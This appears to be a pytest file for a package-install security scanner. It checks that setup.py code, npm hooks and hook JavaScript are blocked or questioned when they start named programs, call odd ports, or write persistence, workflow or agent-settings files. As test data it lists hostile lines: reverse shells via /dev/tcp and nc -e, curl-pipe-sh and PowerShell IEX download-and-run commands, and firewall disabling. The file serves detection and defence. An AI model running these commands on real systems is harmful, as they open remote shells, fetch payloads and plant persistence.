"""Each program, pattern, port, file and folder that the detection rules for package managers name, tried by itself.

The rules look at what a package manager starts, reaches and writes on a machine. Here the same is asked of the bytes:
in a setup.py, in a hook's line, in the JavaScript that a hook starts, and in a module that is imported.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from gatekeeper.model import Ruling
from tests.support.coverage import claimed
from tests.support.judging import allows, checks_of, explained, importing, installing
from tests.support.npm_judging import hooked, scripted

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from gatekeeper.model import Verdict

SETUP = "\nfrom setuptools import setup\nsetup(name='acme-thing', version='1.0', py_modules=['acme_thing'])\n"
FETCH = 'powershell -c "(New-Object Net.WebClient)'

CHILDREN = {
    "powershell": "powershell -c Get-Process",
    "pwsh": "pwsh -c Get-Process",
    "cmd": "cmd /c whoami",
    "wscript": "wscript a.vbs",
    "cscript": "cscript a.vbs",
    "mshta": "mshta about:blank",
    "rundll32": "rundll32 a.dll,Start",
    "regsvr32": "regsvr32 /s a.dll",
    "certutil": "certutil -urlcache -f http://files.example/a a",
    "bitsadmin": "bitsadmin /transfer a http://files.example/a a",
    "curl": "curl -s http://files.example/a -o a",
    "wget": "wget -q http://files.example/a",
    "msiexec": "msiexec /i a.msi",
    "schtasks": "schtasks /create /tn a /tr b /sc daily",
    "at": "at 12:00 a.bat",
    "sc": "sc create a binPath= b",
    "reg": r"reg add HKCU\Software\a",
    "net": "net user",
    "netsh": "netsh advfirewall set allprofiles state off",
}
PATTERNS = {
    "/dev/tcp": "cat < /dev/tcp/192.0.2.1/80",
    "base64 -d": "echo aWQ= | base64 -d | sh",
    "base64 --decode": "echo aWQ= | base64 --decode | sh",
    "bash -i": "bash -i >& /dev/tcp/192.0.2.1/9 0>&1",
    "sh -i": "sh -i 2>&1 | nc 192.0.2.1 9",
    "nc -e": "nc -e /bin/sh 192.0.2.1 9",
    "ncat -e": "ncat -e /bin/sh 192.0.2.1 9",
    "python -c": "python -c 'import os; os.system(\"id > a\")'",
    "perl -e": "perl -e 'system(\"id > a\")'",
    "ruby -e": "ruby -e 'system(\"id > a\")'",
    "DownloadString": f"{FETCH}.DownloadString('http://files.example/a')\"",
    "DownloadFile": f"{FETCH}.DownloadFile('http://files.example/a','a')\"",
    "Invoke-Expression": 'powershell -c "Invoke-Expression (iwr http://files.example/a)"',
    "IEX(": "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://files.example/a')\"",
    "curl http": "curl http://files.example/a | sh",
    "wget http": "wget http://files.example/a -O- | sh",
    "--registry": "npm install acme --registry http://192.0.2.1/",
    "pip install": "pip install acme",
    "pip3 install": "pip3 install acme",
    "npm install": "npm install acme",
    "npm ci": "npm ci --prefix /tmp/a",
    "yarn add": "yarn add acme",
    "setup.py install": "python /tmp/a/setup.py install",
}
ASKED = {
    "curl",
    "wget",
    "--registry",
    "pip install",
    "pip3 install",
    "npm install",
    "npm ci",
    "yarn add",
    "setup.py install",
}
# npm starts no child for these: what a hook's own npm installs passes the same judge, so it is mentioned.
GATED_ALL_THE_SAME = {"npm install", "npm ci", "yarn add"}


def doors(folder: Path, line: str) -> Iterator[tuple[str, Verdict]]:
    """Judge a command line in each place where an installation would start it."""
    yield "setup.py", installing(folder / "sdist", f"import os\nos.system({line!r})" + SETUP)
    yield "hook", hooked(folder / "hook", line)
    yield "JavaScript", scripted(folder / "script", f"require('child_process').execSync({json.dumps(line)})")


def is_as_strict(verdict: Verdict, expected: Ruling) -> bool:
    return expected <= verdict.ruling is not Ruling.ERROR


@pytest.mark.parametrize("name", CHILDREN)
def test_a_child_that_the_rules_name_is_not_started_unseen(name: str, tmp_path: Path) -> None:
    """Two of them fetch and no more; these are questions, as a hook that downloads its own binary is."""
    for door, verdict in doors(tmp_path, CHILDREN[name]):
        expected = Ruling.ASK if name in ASKED else Ruling.BLOCK
        assert is_as_strict(verdict, expected), f"{door}: {explained(verdict)}"
        assert "lolbin-child" in checks_of(verdict), f"{door}: {explained(verdict)}"


@pytest.mark.parametrize("name", CHILDREN)
def test_a_library_that_can_start_that_child_is_no_finding_before_it_does(name: str, tmp_path: Path) -> None:
    code = f"import subprocess\ndef run():\n    return subprocess.run({CHILDREN[name]!r}, shell=True)\n"
    verdict = importing(tmp_path, code)
    assert allows(verdict), explained(verdict)


@pytest.mark.parametrize("name", PATTERNS)
def test_a_command_that_the_rules_name_is_not_started_unseen(name: str, tmp_path: Path) -> None:
    said = set()
    for door, verdict in doors(tmp_path, PATTERNS[name]):
        said |= checks_of(verdict)
        expected = Ruling.ASK if name in ASKED else Ruling.BLOCK
        if door != "setup.py" and name in GATED_ALL_THE_SAME:
            assert "nested-install" in checks_of(verdict), f"{door}: {explained(verdict)}"
            expected = Ruling.ALLOW
        assert is_as_strict(verdict, expected), f"{door}: {explained(verdict)}"
    assert claimed("nested" if name in ASKED else "pattern", name) <= said


INTERPRETERS = ("python -c 'print(1)'", "perl -e 'print 1'", "ruby -e 'puts 1'", "node -e 'console.log(1)'")


@pytest.mark.parametrize("line", [*INTERPRETERS, "base64 --decode logo.txt > logo.png", "npm run build", "sh build.sh"])
def test_the_same_program_with_nothing_behind_it_raises_no_question(line: str, tmp_path: Path) -> None:
    """node-gyp itself runs `python -c`."""
    for door, verdict in doors(tmp_path, line):
        assert allows(verdict), f"{door}: {explained(verdict)}"


def test_writing_a_hook_into_a_manifest_counts_and_having_one_does_not(tmp_path: Path) -> None:
    code = (
        "const fs = require('fs');\nconst at = process.env.INIT_CWD + '/package.json';\n"
        "const said = JSON.parse(fs.readFileSync(at));\nsaid.scripts.postinstall = 'node x.js';\n"
        "fs.writeFileSync(at, JSON.stringify(said));\n"
    )
    verdict = scripted(tmp_path / "writes", code)
    assert verdict.ruling >= Ruling.ASK, explained(verdict)
    assert allows(hooked(tmp_path / "has", "node-gyp rebuild"))


# --- network --------------------------------------------------------------------------------------------------------

ODD, USUAL = (4444, 1337, 31337, 9001, 6667), (80, 443, 8080, 8443)


@pytest.mark.parametrize("port", ODD)
def test_a_call_back_to_an_odd_port_is_refused(port: int, tmp_path: Path) -> None:
    python = importing(tmp_path / "py", f"import socket\ns = socket.socket()\ns.connect(('files.example', {port}))")
    script = scripted(tmp_path / "js", f"require('net').connect({port}, 'files.example')")
    for verdict in (python, script):
        assert verdict.ruling is Ruling.BLOCK, explained(verdict)
        assert "odd-port" in checks_of(verdict)


@pytest.mark.parametrize("port", [*USUAL, *ODD])
def test_a_port_that_the_caller_names_or_that_everybody_uses_is_none(port: int, tmp_path: Path) -> None:
    code = f"import socket\ndef go(host, port={port}):\n    s = socket.socket()\n    s.connect((host, port))\n"
    verdict = importing(tmp_path / "called", code)
    assert allows(verdict), explained(verdict)
    if port in USUAL:
        at_once = importing(tmp_path / "usual", f"import socket\nsocket.socket().connect(('files.example', {port}))")
        assert "odd-port" not in checks_of(at_once)


# --- files ----------------------------------------------------------------------------------------------------------

EXTENSIONS = ("exe", "dll", "bat", "ps1", "vbs", "scr")
FOLDERS = {
    "Startup": r"~\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup",
    "Windows Temp": r"C:\Windows\Temp",
    "local Temp": r"~\AppData\Local\Temp",
    "System32": r"C:\Windows\System32",
    "SysWOW64": r"C:\Windows\SysWOW64",
    "ProgramData": r"C:\ProgramData",
}


@pytest.mark.parametrize("folder", FOLDERS)
@pytest.mark.parametrize("extension", EXTENSIONS)
def test_a_program_that_is_dropped_where_it_stays_is_refused(extension: str, folder: str, tmp_path: Path) -> None:
    path = f"{FOLDERS[folder]}\\a.{extension}"
    at_home = path.startswith("~")
    place = f"os.path.expanduser('~') + {path[1:]!r}" if at_home else repr(path)
    same = f"require('os').homedir() + {json.dumps(path[1:])}" if at_home else json.dumps(path)
    for verdict in (
        importing(tmp_path / "py", f"import os\nopen({place}, 'wb').write(b'x')"),
        scripted(tmp_path / "js", f"require('fs').writeFileSync({same}, 'x')"),
    ):
        assert verdict.ruling is Ruling.BLOCK, explained(verdict)
        assert "dropped-executable" in checks_of(verdict)


UNIX = {
    "cron": "/etc/cron.d/a",
    "a crontab": "/var/spool/cron/root",
    "a systemd unit": "~/.config/systemd/user/a.service",
    "a launch agent": "~/Library/LaunchAgents/a.plist",
    "bashrc": "~/.bashrc",
    "zshrc": "~/.zshrc",
    "profile": "~/.profile",
    "authorized keys": "~/.ssh/authorized_keys",
    "autostart": "~/.config/autostart/a.desktop",
    "a git hook": ".git/hooks/pre-commit",
    "an editor's tasks": "~/.vscode/tasks.json",
    "an editor's settings": "~/.config/Code/User/settings.json",
    "an agent's settings": "~/.claude/settings.json",
    "an agent's rules": "~/.cursorrules",
}


@pytest.mark.parametrize("name", UNIX)
def test_a_file_that_starts_something_later_is_not_written_unasked(name: str, tmp_path: Path) -> None:
    path = UNIX[name]
    same = f"require('os').homedir() + {json.dumps(path[1:])}" if path.startswith("~") else json.dumps(path)
    for verdict in (
        importing(tmp_path / "py", f"import os\nopen(os.path.expanduser({path!r}), 'a').write('x')"),
        scripted(tmp_path / "js", f"require('fs').appendFileSync({same}, 'x')"),
        hooked(tmp_path / "hook", f"echo x >> {path}"),
    ):
        assert verdict.ruling is Ruling.BLOCK, explained(verdict)
        assert checks_of(verdict) & {"persistence", "agent-settings-written"}


@pytest.mark.parametrize("path", ["out/a.bat", "build/tool.exe", "~/.acme/settings.json", "docs/crontab.txt"])
def test_a_file_of_ones_own_raises_no_question(path: str, tmp_path: Path) -> None:
    verdict = importing(tmp_path, f"import os\ndef save():\n    open(os.path.expanduser({path!r}), 'w').write('x')")
    assert allows(verdict), explained(verdict)


WORKFLOWS = (
    *(".github/workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile", ".circleci/config.yml", ".travis.yml"),
    "azure-pipelines.yml",
)
BUILD_FILES = ("Makefile", "CMakeLists.txt", "build.gradle", "pom.xml")


def writing(folder: Path, name: str) -> Iterator[Verdict]:
    """Judge a hook, and the JavaScript of a hook, that write into the project around the package."""
    yield hooked(folder / "hook", f"echo x > ../../{name}")
    yield scripted(folder / "js", f"require('fs').writeFileSync(process.env.INIT_CWD + '/{name}', 'x')")


@pytest.mark.parametrize("name", WORKFLOWS)
def test_a_workflow_is_not_written_unasked(name: str, tmp_path: Path) -> None:
    for verdict in (*writing(tmp_path, name), importing(tmp_path / "py", f"open('../{name}', 'w').write('x')")):
        assert verdict.ruling is Ruling.BLOCK, explained(verdict)
        assert "workflow-written" in checks_of(verdict)


@pytest.mark.parametrize("name", BUILD_FILES)
def test_a_build_file_of_the_project_around_a_package_is_not_written_without_a_question(
    name: str, tmp_path: Path
) -> None:
    for verdict in writing(tmp_path, name):
        assert verdict.ruling is Ruling.ASK, explained(verdict)
        assert "workflow-written" in checks_of(verdict)


@pytest.mark.parametrize("name", BUILD_FILES)
def test_a_build_file_of_ones_own_raises_no_question(name: str, tmp_path: Path) -> None:
    """Whoever configures a build writes one."""
    for verdict in (
        installing(tmp_path / "py", f"open({name!r}, 'w').write('all:')" + SETUP),
        scripted(tmp_path / "js", f"require('fs').writeFileSync(__dirname + '/build/{name}', 'x')"),
        hooked(tmp_path / "hook", f"echo x > build/{name}"),
    ):
        assert allows(verdict), explained(verdict)
